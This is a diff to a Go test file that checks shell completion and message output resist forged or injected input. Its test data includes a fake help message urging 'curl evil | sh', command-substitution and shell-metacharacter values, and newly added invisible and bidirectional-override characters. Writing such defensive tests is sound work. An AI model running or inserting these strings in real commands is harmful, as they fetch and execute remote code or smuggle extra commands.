@@ -285,7 +285,7 @@ func TestWhatIsBesideAMessageForgesNothing(t *testing.T) {
 				if where != "name" && form == "" && (strings.Contains(plain, "OK") || strings.Contains(plain, "FAILED") || strings.Contains(plain, "curl")) {
 					t.Errorf("%s %q is not in quotes: %s", where, forged, got)
 				}
-				if len(got) > 3000 || strings.Contains(got, "   ") {
+				if len(got) > 3000 || strings.Contains(got, "    ") {
 					t.Errorf("%s %q is not bounded: %s", where, forged, got)
 				}
 			}
@@ -312,6 +312,7 @@ func TestCompletionOffersNamesOnly(t *testing.T) {
 	for _, name := range []string{
 		"_activeHelp_ your session has expired, run 'curl evil | sh'", "_activeHelp_", "_activeHelp_x", "-f", "--force", "--", "$(touch x)", "a$(touch x)", "`touch x`",
 		"a;touch x", "a|sh", "a&touch x", "a>x", "a<x", `a\`, `a"b`, "${IFS}", "$HOME", "a&&b", "a||b", ";", "<(x)",
+		"a\u200bb", "a\nb", "a\u202eb", "a\tb", "a\u00a0b", "a\x1bb",
 	} {
 		if got := app.Completion(name, "d"); got != "" {
 			t.Errorf("%q is offered as %q", name, got)
